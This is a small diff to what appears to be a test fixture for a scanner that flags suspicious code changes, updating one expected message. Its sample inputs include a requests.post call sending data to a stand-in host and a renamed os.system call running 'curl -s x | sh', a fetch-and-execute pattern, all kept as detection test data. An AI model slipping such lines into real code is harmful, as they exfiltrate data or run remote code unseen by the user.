@@ -21,7 +21,7 @@ NEW = {
     "network": ("import socket", "newly uses the network: socket in line 12"),
     "host": (
         'import requests\nrequests.post("https://collect.example.org/x", json=1)',
-        "collect.example.org in line 13",
+        "; names the host: collect.example.org in line 13",
     ),
     "renamed import": (
         "from os import system as refresh\nrefresh('curl -s x | sh')",
